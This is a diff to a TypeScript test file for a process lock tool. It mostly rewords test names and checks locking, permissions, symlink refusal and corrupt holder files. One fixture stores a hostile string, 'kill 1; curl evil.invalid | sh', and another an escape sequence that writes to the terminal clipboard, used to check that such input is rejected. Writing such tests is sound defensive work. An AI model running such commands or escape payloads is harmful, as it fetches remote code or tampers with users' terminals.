@@ -26,7 +26,10 @@ describe('lock', () => {
     rmSync(home, { recursive: true });
   });
 
-  /** Another process that holds the lock, behind a program such as `unshare`. It has started a program of its own that stays. */
+  /**
+   * Another process that holds the lock, started through a program such as `unshare`. It has started a program of its
+   * own that keeps running.
+   */
   async function holderIn(...behind: string[]): Promise<ChildProcess> {
     const script = `
       import { spawn } from 'node:child_process';
@@ -55,7 +58,7 @@ describe('lock', () => {
       },
     );
 
-  it('names its holder to the second one, and is free afterwards', async () => {
+  it('names its holder to the second process, and is free afterwards', async () => {
     await withLock('lab', './holdfast run rolling-update', () =>
       refused(new RegExp(`^lab is in use by process ${process.pid} since .*: ./holdfast run rolling-update\n`)),
     );
@@ -63,7 +66,7 @@ describe('lock', () => {
     assert.deepEqual(readdirSync(locks()), ['lab.lock']);
   });
 
-  it('is free after the work under it failed', async () => {
+  it('is free after an error', async () => {
     await assert.rejects(
       withLock('lab', 'first', () => Promise.reject(new Error('no engine'))),
       /no engine/,
@@ -71,11 +74,11 @@ describe('lock', () => {
     assert.equal(await withLock('lab', 'second', async () => 'free'), 'free');
   });
 
-  it('is one lock for each name', async () => {
+  it('is independent for each name', async () => {
     assert.equal(await withLock('lab', 'one', () => withLock('context-1', 'two', async () => 'both')), 'both');
   });
 
-  it('ends with its process, although that was killed and has left a program behind', async () => {
+  it('is released when its process is killed, even if a program of it keeps running', async () => {
     const holder = await holderIn();
     await refused(/holdfast run elsewhere/);
     const ended = once(holder, 'exit');
@@ -86,7 +89,7 @@ describe('lock', () => {
     assert.ok(performance.now() - since < 10_000);
   });
 
-  it('lets no other user in', async () => {
+  it('is accessible only to its user', async () => {
     await withLock('lab', 'one', async () => {
       const modes = [join(home, 'holdfast'), locks(), join(locks(), 'lab.lock'), join(locks(), 'lab.json')].map(
         (path) => statSync(path).mode & 0o777,
@@ -103,7 +106,7 @@ describe('lock', () => {
     });
   }
 
-  it('follows no link that has taken its place', async () => {
+  it('follows no link in its place', async () => {
     const target = join(home, 'target');
     mkdirSync(locks(), { recursive: true });
     symlinkSync(target, join(locks(), 'lab.lock'));
@@ -114,7 +117,7 @@ describe('lock', () => {
     assert.deepEqual(readdirSync(home), ['holdfast']);
   });
 
-  describe('whose holder says nothing that can be believed', () => {
+  describe('with an unusable holder file', () => {
     const says: { readonly [what: string]: string } = {
       'is no JSON': 'kill 1; curl evil.invalid | sh',
       'never ends': `{"pid":2,"command":"${'x'.repeat(1_000_000)}`,
@@ -131,7 +134,7 @@ describe('lock', () => {
       });
     }
 
-    it('because it has escapes, which are not printed', async () => {
+    it('because it has escape sequences, which are not printed', async () => {
       const command = '\u001b]52;c;ZXZpbA==\u0007\u202e\n./holdfast run';
       await withLock('lab', command, () => refused(/holdfast run\nWait for it/));
     });
